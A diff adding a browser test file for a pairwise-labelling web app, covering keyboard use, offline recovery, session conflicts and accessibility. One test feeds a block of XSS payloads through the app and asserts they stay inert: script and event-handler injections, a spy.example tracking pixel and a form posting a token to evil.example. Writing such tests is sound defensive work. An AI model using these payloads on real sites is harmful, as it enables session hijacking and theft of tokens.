@@ -1,0 +1,448 @@
+"""Labelling in a real browser: by keyboard alone, with what goes wrong in real life."""
+
+from datetime import timedelta
+
+import pytest
+from django.contrib.sessions.models import Session
+from django.utils import timezone
+from playwright.sync_api import expect
+
+from annotation.models import Assignment, Instruction, Item, Judgment, JudgmentRevision, Sitting
+from annotation.services.sittings import end_sitting, return_expired
+from tests.annotation.leasing import give, next_lease
+from tests.factories import make_pair_item, make_prompt, make_user
+from tests.pages import assert_accessible
+from tests.servers import wait_until
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+
+@pytest.fixture
+def pairs(project):
+    """Thirty pairs whose texts say which completion they are."""
+    for number in range(30):
+        prompt = make_prompt(project, f"Question {number}?")
+        make_pair_item(project, f"first of {number}", f"second of {number}", prompt=prompt)
+
+
+@pytest.fixture
+def bench(visit, bob, pairs):
+    return open_bench(visit, bob)
+
+
+def open_bench(visit, user, **options):
+    page = visit(user, **options)
+    page.goto("/p/wall/label/")
+    ready(page)
+    return page
+
+
+def ready(page):
+    """The page has its pair and those ahead: two leases more."""
+    page.wait_for_selector("#vote[data-ready]", state="attached")
+
+
+def shown(page) -> tuple[str, str, str]:
+    """Question, A and B as they are on the screen."""
+    return (
+        page.locator(".turn[data-last] .prose").inner_text(),
+        page.locator(".side[data-side=a] .prose").inner_text(),
+        page.locator(".side[data-side=b] .prose").inner_text(),
+    )
+
+
+def press(page, *keys):
+    for key in keys:
+        page.keyboard.press(key)
+
+
+def stored(count: int, **fields):
+    wait_until(lambda: Judgment.objects.filter(withdrawn=False, **fields).count() == count, seconds=10, what="storing")
+
+
+def saved(page, text="Saved"):
+    expect(page.locator("#saved [data-text]")).to_have_text(text)
+
+
+def done(page, count: int):
+    expect(page.locator("#done")).to_have_text(str(count))
+
+
+def test_twenty_pairs_by_keyboard_alone(bench):
+    seen, keys = [], "12345678" * 2 + "1808"
+    for key in keys:
+        seen.append(shown(bench))
+        press(bench, key)
+        if key != keys[-1]:
+            expect(bench.locator(".turn[data-last] .prose")).not_to_have_text(seen[-1][0])
+    stored(20)
+    done(bench, 20)
+    rows = list(Judgment.objects.select_related("item__prompt").order_by("judged_at"))
+    for key, (question, a, b), row in zip(keys, seen, rows, strict=True):
+        assert row.item.prompt.messages[0]["content"] == question
+        texts = [entry.completion.text for entry in row.item.entries.select_related("completion")]
+        assert [texts[index] for index in row.shown_order] == [a, b]
+        if key == "0":
+            assert (row.outcome, row.strength) == ("both_bad", None)
+            continue
+        towards_a = {1: 4, 2: 3, 3: 2, 4: 1, 5: -1, 6: -2, 7: -3, 8: -4}[int(key)]
+        assert row.strength == (towards_a if a.startswith("first") else -towards_a)
+        assert row.active_ms is not None
+    assert len({row.item_id for row in rows}) == 20
+    left = sum(row.shown_order[0] == 0 for row in rows)
+    assert 7 <= left <= 13
+
+
+def test_a_key_held_down_answers_once(bench):
+    bench.keyboard.down("1")
+    for _ in range(5):
+        bench.keyboard.down("1")
+    bench.keyboard.up("1")
+    stored(1)
+    saved(bench)
+    done(bench, 1)
+
+
+def test_comment_undo_and_undo_again(bench):
+    first = shown(bench)
+    press(bench, "c")
+    bench.keyboard.type("because 1 runs")  # digits in a comment judge nothing
+    press(bench, "Escape", "3")
+    stored(1, comment="because 1 runs")
+    second = shown(bench)
+    press(bench, "8")
+    expect(bench.locator("#toast")).to_contain_text("Pair 2: B much better")
+    press(bench, "u")
+    assert shown(bench) == second
+    press(bench, "u")
+    assert shown(bench) == first
+    expect(bench.locator("#comment")).to_have_value("because 1 runs")
+    stored(0)
+    done(bench, 0)
+    press(bench, "6", "7")
+    stored(2)
+    assert Judgment.objects.count() == 2
+    assert JudgmentRevision.objects.count() == 6
+
+
+def test_skip_and_flag_with_reasons(bench):
+    press(bench, "s")
+    expect(bench.locator("#skip-reasons")).to_be_visible()
+    press(bench, "Escape")
+    expect(bench.locator("#skip-reasons")).to_be_hidden()
+    press(bench, "s", "3")
+    stored(1, outcome="skip", reason="unclear")
+    press(bench, "f", "Tab", "Enter")
+    stored(1, outcome="broken", reason="identical")
+    assert Item.objects.filter(put_aside=True).count() == 1
+    saved(bench)
+    expect(bench.locator(".ruler .put-aside")).to_have_count(2)
+
+
+def test_arrow_keys_only_look_and_enter_answers(bench):
+    bench.locator("input[name=grade]").first.focus()
+    press(bench, "ArrowRight", "ArrowRight")
+    saved(bench)
+    assert not Judgment.objects.exists()
+    press(bench, "Enter")
+    stored(1, shown_value={"grade": 3})
+
+
+def test_a_pointer_answers_at_once(bench):
+    bench.locator(".cell").nth(4).click()
+    stored(1, shown_value={"grade": 5})
+
+
+def test_offline_and_back(bench):
+    bench.expected += ["Failed to load resource", "ERR_INTERNET_DISCONNECTED"]
+    press(bench, "1")
+    stored(1)
+    saved(bench)
+    bench.context.set_offline(True)
+    press(bench, "2", "3")
+    expect(bench.locator("[data-note=offline]")).to_contain_text("2 answers wait in this browser and are sent")
+    saved(bench, "Offline, 2 kept here")
+    press(bench, "4")
+    expect(bench.locator(".bench-empty")).to_contain_text("No pair is here any more")
+    assert Judgment.objects.count() == 1
+    bench.context.set_offline(False)
+    stored(4)
+    saved(bench)
+    expect(bench.locator(".side")).to_have_count(2)
+    expect(bench.locator("[data-note=offline]")).to_have_count(0)
+    assert JudgmentRevision.objects.count() == 4
+
+
+def test_an_answer_kept_offline_survives_a_closed_tab(bench):
+    bench.expected += ["Failed to load resource"]
+    first = shown(bench)
+    bench.route("**/label/answer/", lambda route: route.abort())
+    press(bench, "1")
+    expect(bench.locator("#saved [data-text]")).to_have_text("Server away, 1 kept here")
+    page = bench.context.new_page()
+    bench.close()
+    page.goto("/p/wall/label/")
+    stored(1)
+    saved(page)
+    assert shown(page) != first
+    assert JudgmentRevision.objects.count() == 1
+
+
+def test_a_reply_that_got_lost_stores_nothing_twice(bench):
+    bench.expected += ["Failed to load resource"]
+
+    lost = []
+
+    def lose_the_first_reply(route):
+        if lost:
+            return route.continue_()
+        lost.append(route.fetch().status)
+        return route.abort()
+
+    bench.route("**/label/answer/", lose_the_first_reply)
+    press(bench, "1")
+    saved(bench)
+    stored(1)
+    press(bench, "2")
+    stored(2)
+    assert lost == [200]
+    assert JudgmentRevision.objects.count() == 2
+
+
+def test_a_draft_is_on_the_server_and_comes_back(bench, visit, bob):
+    press(bench, "c")
+    bench.keyboard.type("half a thought")
+    saved(bench)
+    wait_until(lambda: Assignment.objects.filter(draft={"comment": "half a thought"}).exists())
+    elsewhere = open_bench(visit, bob)
+    assert shown(elsewhere) == shown(bench)
+    expect(elsewhere.locator("#comment")).to_have_value("half a thought")
+
+
+def test_a_lease_that_ran_out_loses_no_text(bench, project):
+    press(bench, "c")
+    bench.keyboard.type("my thoughts")
+    saved(bench)
+    mine = Assignment.objects.order_by("pk").first()
+    Assignment.objects.update(expires_at=timezone.now() - timedelta(seconds=1))
+    return_expired()
+    theirs = next_lease(project, ann := make_user("ann"))
+    assert theirs.item_id == mine.item_id
+    give(project, ann, theirs)
+    bench.keyboard.type(", and more")
+    expect(bench.locator("[data-note=lost]")).to_contain_text("This pair went to somebody else")
+    expect(bench.locator("#comment")).to_have_value("my thoughts, and more")
+    press(bench, "Escape", "2")
+    stored(1, surplus=True, comment="my thoughts, and more")
+    press(bench, "3")
+    stored(2, surplus=False)
+
+
+def test_two_tabs_of_one_person(bench):
+    other = bench.context.new_page()
+    other.goto("/p/wall/label/")
+    expect(bench.locator(".bench-empty")).to_contain_text("Labelling goes on in another tab")
+    press(bench, "1")
+    ready(other)
+    assert not Judgment.objects.exists()
+    press(other, "1")
+    stored(1)
+    bench.get_by_role("button", name="Label here").click()
+    ready(bench)
+    expect(other.locator(".bench-empty")).to_contain_text("Labelling goes on in another tab")
+    press(bench, "2")
+    stored(2)
+    assert JudgmentRevision.objects.count() == 2
+
+
+def test_two_browsers_of_one_person(bench, visit, bob):
+    bench.expected += ["409"]
+    other = open_bench(visit, bob)
+    assert shown(other) == shown(bench)
+    press(other, "1")
+    stored(1)
+    press(bench, "8")
+    note = bench.locator("[data-note=refused]")
+    expect(note).to_contain_text("Pair 1: B much better: not stored")
+    expect(note).to_contain_text("This pair was answered in another window; that answer stands.")
+    note.get_by_role("button", name="Let this answer stand instead").click()
+    stored(1, shown_value={"grade": 8})
+    assert Judgment.objects.get().revision == 2
+
+
+def test_signed_out_in_the_middle(bench, bob, visit):
+    Session.objects.all().delete()
+    press(bench, "1", "2")
+    expect(bench.locator("[data-note=signed-out]")).to_contain_text("2 answers wait in this browser")
+    saved(bench, "Signed out, 2 kept here")
+    assert not Judgment.objects.exists()
+    bench.context.add_cookies([visit.cookie(bob)])
+    bench.get_by_role("button", name="Send now").click()
+    stored(2)
+    saved(bench)
+
+
+def test_nothing_is_sent_in_somebody_elses_name(bench, rita, visit):
+    bench.expected += ["409"]
+    bench.context.add_cookies([visit.cookie(rita)])
+    press(bench, "1")
+    expect(bench.locator("[data-note=other-person]")).to_contain_text("Somebody else signed in here")
+    assert not Judgment.objects.exists()
+
+
+def test_an_answer_is_read_again_and_changed(bench):
+    first = shown(bench)
+    press(bench, "1", "2", "3")
+    stored(3)
+    saved(bench)
+    here = shown(bench)
+    press(bench, "a")
+    rows = bench.locator("#answers tbody tr")
+    expect(rows).to_have_count(3)
+    expect(rows.last).to_contain_text("A much better")
+    rows.last.get_by_role("button").click()
+    expect(bench.locator(".turn[data-last] .prose")).to_have_text(first[0])
+    assert shown(bench) == first
+    expect(bench.locator("input[value='1']")).to_be_checked()
+    press(bench, "Escape")
+    assert shown(bench) == here
+    press(bench, "a")
+    rows.last.get_by_role("button").click()
+    expect(bench.locator(".turn[data-last] .prose")).to_have_text(first[0])
+    press(bench, "7")
+    stored(1, shown_value={"grade": 7})
+    assert shown(bench) == here
+    assert Judgment.objects.count() == 3
+    done(bench, 3)
+
+
+def test_the_guide_changes_while_somebody_labels(bench, project, alice):
+    Instruction.objects.create(project=project, number=2, text="Prefer **brevity**.", created_by=alice)
+    press(bench, "c")
+    bench.keyboard.type("x")
+    expect(bench.locator("[data-note=guide]")).to_contain_text("guide 2")
+    press(bench, "Escape", "g")
+    expect(bench.locator("#guide-text strong")).to_have_text("brevity")
+
+
+def test_a_sitting_that_ended_meanwhile(bench, project, bob):
+    press(bench, "1")
+    stored(1)
+    saved(bench)
+    end_sitting(project, by=bob)
+    press(bench, "2")
+    stored(2)
+    expect(bench.locator("[data-note=ended]")).to_contain_text("this is a new sitting")
+    press(bench, "3")
+    stored(3)
+    assert Sitting.objects.count() == 2
+
+
+def test_the_goal_and_the_end_of_a_sitting(visit, bob, project, pairs):
+    project.sitting_goal = 3
+    project.save()
+    bench = open_bench(visit, bob)
+    press(bench, "1", "0", "s", "1")
+    expect(bench.locator("[data-note=goal]")).to_contain_text("3 pairs: the sitting is complete")
+    bench.locator("[data-note=goal]").get_by_role("button", name="End the sitting").click()
+    bench.wait_for_url("**/sittings/*/")
+    expect(bench.locator("h1")).to_have_text("The sitting is over")
+    expect(bench.locator("main")).to_contain_text("1 both bad, 1 skipped, 0 flagged")
+    assert Judgment.objects.count() == 3
+    assert Sitting.objects.get().ended_at is not None
+
+
+def test_the_queue_runs_dry_and_fills_again(visit, bob, project):
+    make_pair_item(project, "first", "second")
+    bench = open_bench(visit, bob)
+    press(bench, "1")
+    expect(bench.locator(".bench-empty")).to_contain_text("Nothing to label just now")
+    stored(1)
+    make_pair_item(project, "third", "fourth")
+    bench.evaluate("dispatchEvent(new Event('online'))")
+    bench.reload()
+    expect(bench.locator(".side")).to_have_count(2)
+
+
+def test_reading_counts_and_going_away_does_not(bench):
+    bench.clock.install()
+    bench.reload()
+    ready(bench)
+    bench.clock.run_for(20_000)  # reading in silence
+    bench.clock.run_for(600_000)  # gone: the clock stands after the time that reading takes
+    expect(bench.locator("#clock-stands")).to_be_visible()
+    bench.keyboard.press("Shift")
+    Assignment.objects.update(handed_at=timezone.now() - timedelta(hours=1))
+    press(bench, "1")
+    bench.clock.run_for(1_000)
+    stored(1)
+    assert 40_000 <= Judgment.objects.get().active_ms <= 50_000
+
+
+HOSTILE = """<script>alert(1)</script> <img src=x onerror="alert(2)"> [x](javascript:alert(3))
+<svg onload=alert(4)> <style>body{display:none}</style> ![](https://spy.example/pixel.png)
+<form id="vote" action="https://evil.example"><input name=token></form>
+
+| <b onclick=alert(5)>a</b> |
+|---|
+| </div></main><iframe src="javascript:alert(6)"></iframe> |
+"""
+
+
+def test_hostile_text_does_nothing(visit, bob, alice, project):
+    """A dialog, a console message or a request elsewhere would fail the page."""
+    prompt = make_prompt(project, HOSTILE)
+    for _ in range(3):
+        make_pair_item(project, HOSTILE, HOSTILE, prompt=prompt)
+    Instruction.objects.create(project=project, number=2, text=HOSTILE, created_by=alice)
+    bench = open_bench(visit, bob)
+    for side in "ab":
+        expect(bench.locator(f".side[data-side={side}]")).to_contain_text("<script>alert(1)</script>")
+    assert bench.locator("main script, main img, main iframe, .prose form, .prose style").count() == 0
+    press(bench, "c")
+    bench.keyboard.type(HOSTILE)
+    press(bench, "Escape", "1")
+    stored(1)
+    press(bench, "a")
+    expect(bench.locator("#answers tbody tr")).to_have_count(1)
+    bench.goto("/work/")
+    expect(bench.locator("main")).to_contain_text("<script>")
+    bench.goto(f"/p/wall/sittings/{Sitting.objects.get().pk}/")
+    expect(bench.locator("main")).to_contain_text("<script>")
+
+
+@pytest.mark.parametrize(("width", "dark"), [(1440, False), (1440, True), (390, False), (390, True)])
+def test_axe_finds_nothing(visit, bob, project, pairs, width, dark):
+    make_pair_item(project, "# Head\n\n```\ncode\n```\n\n|a|\n|-|\n|b|", "### Deep\n\n1. one")
+    bench = open_bench(visit, bob, width=width, dark=dark)
+    assert_accessible(bench)
+    press(bench, "1", "c")
+    saved(bench)
+    assert_accessible(bench)
+    press(bench, "Escape", "s")
+    assert_accessible(bench)
+    press(bench, "Escape")
+    for address in ("/work/", f"/p/wall/sittings/{Sitting.objects.get().pk}/"):
+        bench.goto(address)
+        assert_accessible(bench)
+
+
+def test_without_javascript_the_form_posts(visit, bob, pairs):
+    page = visit.browser.new_context(java_script_enabled=False, base_url=visit.address).new_page()
+    page.context.add_cookies([visit.cookie(bob)])
+    page.goto("/p/wall/label/")
+    first = shown(page)
+    page.locator(".cell").nth(1).click()
+    page.locator("#comment").fill("plainly")
+    page.get_by_role("button", name="Send and go on").click()
+    assert shown(page) != first
+    page.get_by_role("button", name="Both bad").click()
+    page.get_by_role("button", name="Skip").click()
+    page.get_by_role("button", name="The task is unclear").click()
+    rows = Judgment.objects.order_by("judged_at")
+    assert [(row.outcome, row.shown_value, row.comment, row.reason) for row in rows] == [
+        ("answer", {"grade": 2}, "plainly", ""),
+        ("both_bad", {}, "", ""),
+        ("skip", {}, "", "unclear"),
+    ]
+    page.context.close()
